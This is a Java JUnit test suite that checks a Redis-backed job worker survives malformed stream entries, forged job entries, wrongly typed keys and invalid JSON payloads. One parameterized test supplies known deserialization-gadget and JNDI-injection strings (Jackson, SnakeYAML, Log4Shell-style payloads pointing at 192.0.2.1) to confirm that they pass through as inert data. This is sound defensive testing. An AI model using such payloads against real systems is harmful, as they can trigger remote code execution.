package dev.millrace.worker;

import static org.assertj.core.api.Assertions.assertThat;

import dev.millrace.job.Band;
import dev.millrace.job.EntryId;
import dev.millrace.job.JobEvent.Ended;
import dev.millrace.job.JobId;
import dev.millrace.job.JobState;
import dev.millrace.stream.entries.EventCodec;
import dev.millrace.stream.entries.EventCodec.Decoded;
import dev.millrace.stream.entries.Lane;
import dev.millrace.stream.entries.StreamEntry;
import dev.millrace.stream.groups.Tail;
import dev.millrace.stream.redis.RedisLink;
import dev.millrace.testkit.MalformedEntries;
import dev.millrace.testkit.MalformedEntries.Entry;
import dev.millrace.testkit.RedisFixture;
import dev.millrace.testkit.RedisProbe;
import dev.millrace.testkit.StreamShape;
import io.micrometer.core.instrument.Counter;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A running worker between entries that no worker can take. */
class HostileEntriesRedisTest {

    @RegisterExtension
    static final RedisFixture REDIS = RedisFixture.forgetful();

    private static final int MALFORMED = 1_000;
    private static final int PORTIONS = 10;

    private final RedisProbe probe = new RedisProbe(REDIS);
    private final RedisLink link = REDIS.link();
    private Workshop shop = new Workshop(REDIS);

    @BeforeEach
    void openShop() {
        shop = new Workshop(REDIS);
        shop.task("echo", (payload, context) -> payload)
                .task("spoil", (payload, context) -> spoilMarker(context.jobId()))
                .start();
    }

    @AfterEach
    void closeShop() throws InterruptedException {
        shop.close();
    }

    /** Neighbours arrive before, between and after: each must end, whatever lies around it. */
    @ParameterizedTest
    @ValueSource(strings = {"critical", "normal", "suspect"})
    void I27_runsTheNeighboursOfAThousandMalformedEntriesInALane(String label) {
        Lane lane = new Lane(Workshop.QUEUE, label);
        List<Entry> malformed = MalformedEntries.of(StreamShape.LANE, 27, MALFORMED);
        List<JobId> neighbours = new ArrayList<>(List.of(shop.submit("echo")));

        for (int i = 0; i < PORTIONS; i++) {
            int portion = MALFORMED / PORTIONS;
            MalformedEntries.add(
                    link, RedisFixture.NAMES.lane(lane), malformed.subList(i * portion, (i + 1) * portion));
            neighbours.add(shop.submit("echo"));
        }

        Workshop.await("the neighbours' ends", () -> succeeded() == neighbours.size());
        neighbours.forEach(job -> assertThat(shop.endOf(job).state()).isEqualTo(JobState.SUCCEEDED));
        Workshop.await("all of them to be gone", () -> probe.entries(lane).isEmpty());
        assertThat(probe.pending(lane)).isEmpty();
        assertThat(quarantined()).hasSize(MALFORMED).allSatisfy(one -> {
            assertThat(one.stream()).isEqualTo(RedisFixture.NAMES.lane(lane));
            assertThat(one.bytes()).startsWith("[\"").hasSizeLessThan(1 << 18);
        });
    }

    @Test
    void liesAboutJobsHarmNobody() {
        JobId victim = shop.submit("echo");
        assertThat(shop.endOf(victim).state()).isEqualTo(JobState.SUCCEEDED);
        Map<String, String> lie = new HashMap<>(StreamShape.LANE.healthy());
        lie.put("queue", Workshop.QUEUE.value());
        lie.put("task", "echo");
        lie.put("job", victim.toString());
        for (String epoch : List.of("0", "1", "32767")) {
            for (String tenant : List.of("other", "default")) {
                lie.put("epoch", epoch);
                lie.put("tenant", tenant);
                probe.put(normal(), lie);
            }
        }
        JobId neighbour = shop.submit("echo");

        assertThat(shop.endOf(neighbour).state()).isEqualTo(JobState.SUCCEEDED);
        Workshop.await("the lies to be gone", () -> probe.entries(normal()).isEmpty());
        assertThat(shop.eventsOf(victim)).filteredOn(Ended.class::isInstance).hasSize(1);
        assertThat(quarantined()).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"@class\":\"javax.script.ScriptEngineManager\"}",
                "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://192.0.2.1/a\"}",
                "[\"org.springframework.context.support.ClassPathXmlApplicationContext\",\"http://192.0.2.1/\"]",
                "\"!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader []]\"",
                "\"rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==\"",
                "\"${jndi:ldap://192.0.2.1/a}\""
            })
    void handsAGadgetToItsTaskAsPlainJson(String gadget) {
        Ended end = shop.endOf(shop.submit("echo", gadget));

        assertThat(end.state()).isEqualTo(JobState.SUCCEEDED);
        assertThat(end.result()).isEqualTo(gadget);
    }

    @Test
    void refusesPayloadsThatAreNoJsonAndRunsTheNext() {
        List<JobId> refused = Stream.of(
                        "",
                        "{",
                        "\u0000",
                        "[".repeat(10_000) + "]".repeat(10_000),
                        "{\"a\":1}{\"b\":2}",
                        "{\"a\":1,\"a\":2}",
                        "9".repeat(100_000))
                .map(payload -> shop.submit("echo", payload))
                .toList();
        JobId next = shop.submit("echo", "1e400");

        refused.forEach(job -> assertThat(shop.endOf(job).state()).isEqualTo(JobState.FAILED));
        assertThat(shop.endOf(next).state()).isEqualTo(JobState.SUCCEEDED);
    }

    @Test
    void aLaneKeyOfAnotherTypeHarmsOnlyItsBand() {
        Lane low = Lane.of(Workshop.QUEUE, Band.LOW);
        REDIS.ask("DEL", RedisFixture.NAMES.lane(low));
        REDIS.ask("SET", RedisFixture.NAMES.lane(low), "oops");
        REDIS.ask("SET", RedisFixture.NAMES.lane(Lane.suspect(Workshop.QUEUE)), "oops");

        for (int i = 0; i < 20; i++) {
            assertThat(shop.endOf(shop.submit("echo")).state()).isEqualTo(JobState.SUCCEEDED);
        }
        assertThat(probe.entries(normal())).isEmpty();
    }

    @Test
    void aMarkerOfAnotherTypeHarmsOnlyItsJob() {
        JobId spoilt = shop.submit("spoil");
        List<JobId> others =
                Stream.generate(() -> shop.submit("echo")).limit(20).toList();

        others.forEach(job -> assertThat(shop.endOf(job).state()).isEqualTo(JobState.SUCCEEDED));
        Workshop.await(
                "the spoilt job to leave its lane",
                () -> probe.entries(normal()).isEmpty());
        assertThat(shop.endIfAny(spoilt)).isNull();
    }

    private double succeeded() {
        return shop.meters.find("millrace_jobs_finished").tag("outcome", "succeeded").counters().stream()
                .mapToDouble(Counter::count)
                .sum();
    }

    private static int spoilMarker(Object job) {
        String marker = RedisFixture.NAMES.markerPrefix() + job;
        REDIS.ask("DEL", marker);
        return REDIS.get("LPUSH", marker, "oops").toInteger();
    }

    private static Lane normal() {
        return Lane.of(Workshop.QUEUE, Band.NORMAL);
    }

    private List<Decoded.Quarantined> quarantined() {
        List<StreamEntry> events =
                Tail.range(link, RedisFixture.NAMES.events(), EntryId.ZERO, new EntryId(Long.MAX_VALUE, 0), 10_000);
        return events.stream()
                .map(EventCodec::decode)
                .filter(Decoded.Quarantined.class::isInstance)
                .map(Decoded.Quarantined.class::cast)
                .toList();
    }
}
